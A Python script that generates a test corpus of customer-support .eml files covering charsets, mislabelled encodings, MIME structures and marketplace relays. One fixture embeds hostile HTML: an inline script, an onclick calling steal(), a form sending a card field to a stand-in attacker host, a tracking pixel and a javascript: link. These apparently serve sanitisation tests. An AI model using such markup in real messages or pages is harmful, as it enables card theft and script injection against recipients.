# Writes the .eml corpus used by the email channel tests (run: python3 generate-corpus.py in this folder).
# The texts are our own; each file exercises one charset, structure or relay the tests assert on.
import base64, quopri, os
from email.header import Header

def b64(data):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i+76] for i in range(0, len(s), 76))

def qp(data):
    return quopri.encodestring(data).decode()

CODECS = {'shift_jis': 'cp932', 'euc-kr': 'euc_kr', 'koi8-r': 'koi8_r', 'iso-2022-jp': 'iso2022_jp'}
def ew(text, charset, enc='B', codec=None):
    data = text.encode(codec or CODECS.get(charset.lower(), charset))
    if enc == 'B':
        return "=?%s?B?%s?=" % (charset, base64.b64encode(data).decode())
    q = ''.join(chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else ('_' if b == 32 else '=%02X' % b) for b in data)
    return "=?%s?Q?%s?=" % (charset, q)

def head(mid, frm, subject, to="support@shop.example", extra=""):
    h = "From: %s\nTo: %s\nSubject: %s\nDate: Mon, 23 Nov 2026 09:15:00 +0100\n" % (frm, to, subject)
    if mid:
        h += "Message-ID: <%s>\n" % mid
    h += "MIME-Version: 1.0\n" + extra
    return h

def write(name, text):
    with open(name, 'wb') as f:
        f.write(text.replace('\n', '\r\n').encode('latin-1') if isinstance(text, str) else text)

def charset_mail(name, charset, label, frm_name, subject, body, mid, enc='base64', subj_label=None):
    subj_label = subj_label or label
    frm = '%s <%s>' % (ew(frm_name, subj_label, 'B', charset), name.replace('.eml','') + '@buyer.example')
    data = body.encode(charset)
    content = b64(data) if enc == 'base64' else (qp(data) if enc == 'quoted-printable' else data.decode('latin-1'))
    h = head(mid, frm, ew(subject, subj_label, 'B', charset),
             extra='Content-Type: text/plain; charset="%s"\nContent-Transfer-Encoding: %s\n' % (label, enc))
    write(name, h + "\n" + content + "\n")

# 1 UTF-8 quoted-printable, German
charset_mail('utf8-quoted-printable.eml', 'utf-8', 'utf-8', 'Jürgen Weiß', 'Wo bleibt meine Bestellung?',
    'Hallo,\n\nich habe vor zwei Wochen eine Lampe bestellt und sie ist immer noch nicht da. Können Sie bitte nachsehen?\n\nGrüße\nJürgen', 'qp-1@buyer.example', 'quoted-printable')
# GB2312 label with a GBK-only character (喆) — mislabelled as clients do
charset_mail('gb2312-labelled-gbk.eml', 'gbk', 'gb2312', '王喆', '我的包裹还没到',
    '你好，我上周买的蓝牙耳机还没有收到，请帮我查一下物流。谢谢！王喆', 'gb2312-1@buyer.example')
charset_mail('gbk.eml', 'gbk', 'gbk', '李娜', '退款申请', '您好，收到的杯子是破的，我想申请退款。', 'gbk-1@buyer.example')
charset_mail('gb18030.eml', 'gb18030', 'gb18030', '陈晨', '发票问题', '请问可以开具增值税发票吗？订单号在附件里。𠀀', 'gb18030-1@buyer.example')
charset_mail('big5.eml', 'big5', 'big5', '張小明', '商品尺寸不對', '您好，我收到的衣服尺寸太小了，可以換貨嗎？', 'big5-1@buyer.example')
charset_mail('shift-jis.eml', 'cp932', 'shift_jis', '田中太郎', '注文した商品がまだ届きません', '注文した商品がまだ届きません。確認していただけますか？①', 'sjis-1@buyer.example')
charset_mail('euc-kr.eml', 'euc_kr', 'euc-kr', '김민수', '배송 문의', '안녕하세요, 주문한 상품이 아직 도착하지 않았습니다.', 'euckr-1@buyer.example')
charset_mail('koi8-r.eml', 'koi8_r', 'koi8-r', 'Иван Петров', 'Где мой заказ?', 'Здравствуйте! Мой заказ до сих пор не пришёл.', 'koi8-1@buyer.example')
charset_mail('windows-1251.eml', 'cp1251', 'windows-1251', 'Ольга', 'Возврат товара', 'Добрый день, хочу вернуть товар.', 'cp1251-1@buyer.example', 'quoted-printable')
charset_mail('windows-1252.eml', 'cp1252', 'windows-1252', 'Zoé Lefèvre', 'Problème de livraison', 'Bonjour, le colis est arrivé abîmé — pouvez-vous m’aider ? Coût : 25 €', 'cp1252-1@buyer.example', 'quoted-printable')
charset_mail('windows-1250.eml', 'cp1250', 'windows-1250', 'Łukasz Żółć', 'Zwrot pieniędzy', 'Dzień dobry, proszę o zwrot pieniędzy za zamówienie.', 'cp1250-1@buyer.example', '8bit')

# ISO-2022-JP: 7bit, encoded words in ISO-2022-JP
body = '商品が壊れていました。交換をお願いします。'.encode('iso2022_jp').decode('latin-1')
write('iso-2022-jp.eml', head('jis-1@buyer.example', '%s <jis@buyer.example>' % ew('鈴木花子', 'iso-2022-jp'),
      ew('商品の交換について', 'iso-2022-jp'), extra='Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n') + "\n" + body + "\n")

# Declared ISO-8859-1 but the bytes are UTF-8
write('latin1-labelled-utf8.eml', head('mislabel-1@buyer.example', 'Renée <renee@buyer.example>', 'Commande annulée ?',
      extra='Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n') + "\n" +
      'Bonjour, ma commande a été annulée sans raison. Merci de vérifier.'.encode('utf-8').decode('latin-1') + "\n")
# No charset at all, 8-bit GBK bytes
write('unlabelled-gbk.eml', head('nolabel-1@buyer.example', 'buyer <nolabel@buyer.example>', 'order question',
      extra='Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n') + "\n" +
      '您好，我想修改收货地址。'.encode('gbk').decode('latin-1') + "\n")
# Declared UTF-8 but the bytes are windows-1252
write('utf8-labelled-cp1252.eml', head('badutf8-1@buyer.example', 'José <jose@buyer.example>', 'Devolución',
      extra='Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n') + "\n" +
      'Hola, quiero devolver el artículo. ¿Cómo lo hago?'.encode('cp1252').decode('latin-1') + "\n")

# Subject split inside a multibyte character across two encoded words
s = '退货退款'.encode('utf-8')
w1 = '=?UTF-8?B?%s?=' % base64.b64encode(s[:4]).decode()
w2 = '=?UTF-8?B?%s?=' % base64.b64encode(s[4:]).decode()
write('split-encoded-words.eml', head('split-1@buyer.example', 'buyer <split@buyer.example>', w1 + '\n ' + w2,
      extra='Content-Type: text/plain; charset=utf-8\n') + "\nPlease help.\n")

# multipart/alternative with dangerous HTML and a remote tracking image
html = '''<html><head><style>body{color:red}</style><script>alert('x')</script></head><body>
<p onclick="steal()">Hello, the <b>blender</b> stopped working after a week.</p>
<form action="https://evil.example/post"><input name="card"></form>
<img src="https://tracker.example/open.gif?id=42" width="1" height="1">
<a href="javascript:alert(1)">click</a> <a href="https://shop.example/orders/1">my order</a>
</body></html>'''
write('alternative-html.eml', head('alt-1@buyer.example', 'Amelia Hart <amelia@buyer.example>', 'Blender broken',
      extra='Content-Type: multipart/alternative; boundary="ALT"\n') + '''
--ALT
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello, the blender stopped working after a week.

--ALT
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

''' + b64(html.encode()) + '''
--ALT--
''')

# mixed > alternative + related (inline cid image) + PDF attachment with an RFC 2231 UTF-8 name
png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==')
pdf = b'%PDF-1.4\n% a tiny stand-in for an invoice\n%%EOF\n'
write('related-inline-and-attachment.eml', head('rel-1@buyer.example', 'Noah Berg <noah@buyer.example>',
      ew('Schaden an der Lieferung – Foto anbei', 'utf-8', 'Q'),
      extra='Content-Type: multipart/mixed; boundary="MIX"\n') + '''
--MIX
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=utf-8

The box was crushed, see the photo.

--ALT
Content-Type: multipart/related; boundary="REL"; type="text/html"

--REL
Content-Type: text/html; charset=utf-8

<p>The box was crushed, see the photo:</p><img src="cid:photo1@buyer.example" alt="photo">
--REL
Content-Type: image/png; name="photo.png"
Content-Transfer-Encoding: base64
Content-ID: <photo1@buyer.example>
Content-Disposition: inline; filename="photo.png"

''' + b64(png) + '''
--REL--

--ALT--

--MIX
Content-Type: application/pdf
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename*=UTF-8''%E5%8F%91%E7%A5%A8%20Rechnung%20%C3%BC.pdf

''' + b64(pdf) + '''
--MIX--
''')

# RFC 2047 encoded attachment name (what Outlook does) and a GB2312 subject
write('rfc2047-filename.eml', head('fn2047-1@buyer.example', 'buyer <fn2047@buyer.example>', ew('附件：发票', 'gb2312'),
      extra='Content-Type: multipart/mixed; boundary="B"\n') + '''
--B
Content-Type: text/plain; charset=utf-8

Invoice attached.

--B
Content-Type: application/octet-stream; name="''' + ew('发票.txt', 'gb2312') + '''"
Content-Disposition: attachment; filename="''' + ew('发票.txt', 'gb2312') + '''"
Content-Transfer-Encoding: base64

''' + b64('invoice 2026-0042'.encode()) + '''
--B--
''')

# html only, no text part
write('html-only.eml', head('htmlonly-1@buyer.example', 'Mia <mia@buyer.example>', 'Size exchange',
      extra='Content-Type: text/html; charset=utf-8\n') + "\n<div>Can I exchange the <i>shoes</i> for size 40?</div><div>Thanks, Mia</div>\n")

# no Message-ID
write('no-message-id.eml', head(None, 'Old Client <oldclient@buyer.example>', 'No id here',
      extra='Content-Type: text/plain; charset=us-ascii\n') + "\nMy mail program does not add a Message-ID.\n")

# automatic mails
write('auto-reply.eml', head('ooo-1@buyer.example', 'Carla <carla@buyer.example>', 'Automatic reply: Re: Your order',
      extra='Auto-Submitted: auto-replied\nX-Autoreply: yes\nContent-Type: text/plain; charset=utf-8\n') + "\nI am out of the office until Monday.\n")
write('precedence-bulk.eml', head('bulk-1@news.example', 'Newsletter <news@news.example>', 'Our autumn sale',
      extra='Precedence: bulk\nList-Id: <sale.news.example>\nContent-Type: text/plain; charset=utf-8\n') + "\n50% off everything.\n")

# marketplace relays
write('amazon-relay-de.eml', head('amz-1@marketplace.amazon.de', 'Max Mustermann - Amazon Marketplace <q7w8e9r0t1y2u3i@marketplace.amazon.de>',
      ew('Anfrage zur Bestellung 302-1234567-7654321', 'utf-8', 'Q'), to='seller-de@shop.example',
      extra='Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n') + "\n" +
      'Bestellnummer: 302-1234567-7654321\nArtikel: Tischlampe (ASIN: B0ABCDEF12)\n\nDie Lampe flackert. Was kann ich tun?\n'.encode('utf-8').decode('latin-1'))
write('ebay-relay-uk.eml', head('ebay-1@members.ebay.co.uk', 'jane_buyer <jane_buyer_x1@members.ebay.co.uk>',
      'Question about item 123456789012', to='seller-uk@shop.example',
      extra='Content-Type: text/plain; charset=utf-8\n') + "\nItem number: 123456789012\nIs this kettle available in black?\n")

# a forward of an earlier conversation
write('forwarded.eml', head('fwd-1@buyer.example', 'Amelia Hart <amelia@buyer.example>', 'Fwd: Blender broken',
      extra='In-Reply-To: <alt-1@buyer.example>\nReferences: <alt-1@buyer.example>\nContent-Type: text/plain; charset=utf-8\n') +
      "\nForwarding this for my husband's order too.\n\n---------- Forwarded message ----------\nHello, the blender stopped working after a week.\n")

# --- more relays: one Amazon marketplace per country, and eBay in German
AMAZON = [('us', 'com', 'Where is my package?', 'Order ID: 111-2223334-4445556\nMy package still shows as not shipped.', 'utf-8'),
          ('ca', 'ca', 'Question about my order', 'Order # 702-1112223-3334445\nCan you ship to Yukon?', 'utf-8'),
          ('mx', 'com.mx', 'Pregunta sobre el pedido', 'Pedido: 701-5556667-7778889\n¿Cuándo llega mi pedido?', 'utf-8'),
          ('uk', 'co.uk', 'Item arrived damaged', 'Order 202-3334445-5556667\nThe mug arrived in pieces.', 'utf-8'),
          ('fr', 'fr', 'Colis non reçu', 'Commande 171-4445556-6667778\nJe n’ai pas reçu mon colis.', 'utf-8'),
          ('it', 'it', 'Reso del prodotto', 'Ordine 171-9990001-1112223\nVorrei restituire il prodotto.', 'utf-8'),
          ('es', 'es', 'Factura', 'Pedido 171-1231231-2342342\n¿Me pueden enviar la factura?', 'utf-8'),
          ('nl', 'nl', 'Vraag over bestelling', 'Bestelling 404-5675675-6786786\nWanneer wordt het geleverd?', 'utf-8'),
          ('se', 'se', 'Fråga om beställning', 'Beställning 406-1010101-2020202\nNär kommer paketet?', 'utf-8'),
          ('pl', 'pl', 'Pytanie o zamówienie', 'Zamówienie 407-3030303-4040404\nKiedy przesyłka dotrze?', 'utf-8'),
          ('jp', 'co.jp', '注文について', '注文番号：249-5050505-6060606\n商品はいつ届きますか？', 'iso-2022-jp'),
          ('au', 'com.au', 'Delivery time', 'Order 250-7070707-8080808\nHow long to Perth?', 'utf-8')]
for country, tld, subject, body, charset in AMAZON:
    codec = {'iso-2022-jp': 'iso2022_jp'}.get(charset, charset)
    data = body.encode(codec)
    enc = '7bit' if charset == 'iso-2022-jp' else 'base64'
    content = data.decode('latin-1') if enc == '7bit' else b64(data)
    write('amazon-relay-%s.eml' % country, head('amz-%s-1@marketplace.amazon.%s' % (country, tld),
          '%s <buyer%s42@marketplace.amazon.%s>' % (ew('Buyer ' + country.upper() + ' - Amazon Marketplace', charset, 'B', codec), country, tld),
          ew(subject, charset, 'B', codec), to='seller@shop.example',
          extra='Content-Type: text/plain; charset=%s\nContent-Transfer-Encoding: %s\n' % (charset, enc)) + "\n" + content + "\n")

# --- more structures
write('attached-message.eml', head('rfc822-1@buyer.example', 'Ivy <ivy@buyer.example>', 'See the mail from the courier',
      extra='Content-Type: multipart/mixed; boundary="M"\n') + '''
--M
Content-Type: text/plain; charset=utf-8

The courier wrote this, see attached.

--M
Content-Type: message/rfc822
Content-Disposition: attachment

From: courier@parcel.example
Subject: Delivery attempt failed
Message-ID: <courier-1@parcel.example>

We could not deliver your parcel.
--M--
''')
write('multipart-signed.eml', head('signed-1@buyer.example', 'Sam <sam@buyer.example>', 'Signed request',
      extra='Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="S"\n') + '''
--S
Content-Type: text/plain; charset=utf-8

Please cancel order 5531.

--S
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

''' + b64(b'not a real signature, only its shape') + '''
--S--
''')
write('calendar-invite.eml', head('ics-1@buyer.example', 'Lea <lea@buyer.example>', 'Call about the warranty',
      extra='Content-Type: multipart/mixed; boundary="C"\n') + '''
--C
Content-Type: text/plain; charset=utf-8

Can we talk on Friday?

--C
Content-Type: text/calendar; charset=utf-8; method=REQUEST; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"

BEGIN:VCALENDAR
VERSION:2.0
BEGIN:VEVENT
SUMMARY:Warranty call
END:VEVENT
END:VCALENDAR
--C--
''')
write('euc-jp.eml', head('eucjp-1@buyer.example', '%s <eucjp@buyer.example>' % ew('山田', 'euc-jp', 'B', 'euc_jp'),
      ew('返品の相談', 'euc-jp', 'B', 'euc_jp'), extra='Content-Type: text/plain; charset=euc-jp\nContent-Transfer-Encoding: 8bit\n') + "\n" +
      '返品したいのですが、手続きを教えてください。'.encode('euc_jp').decode('latin-1') + "\n")
write('iso-8859-2.eml', head('latin2-1@buyer.example', '%s <latin2@buyer.example>' % ew('Dvořák', 'iso-8859-2', 'Q', 'iso8859_2'),
      ew('Reklamace zboží', 'iso-8859-2', 'Q', 'iso8859_2'), extra='Content-Type: text/plain; charset=iso-8859-2\nContent-Transfer-Encoding: quoted-printable\n') + "\n" +
      qp('Dobrý den, zboží přišlo poškozené.'.encode('iso8859_2')) + "\n")
write('ks-c-5601.eml', head('ksc-1@buyer.example', '%s <ksc@buyer.example>' % ew('이지은', 'ks_c_5601-1987', 'B', 'cp949'),
      ew('환불 요청', 'ks_c_5601-1987', 'B', 'cp949'), extra='Content-Type: text/plain; charset=ks_c_5601-1987\nContent-Transfer-Encoding: base64\n') + "\n" +
      b64('환불을 요청합니다. 똠방각하'.encode('cp949')) + "\n")
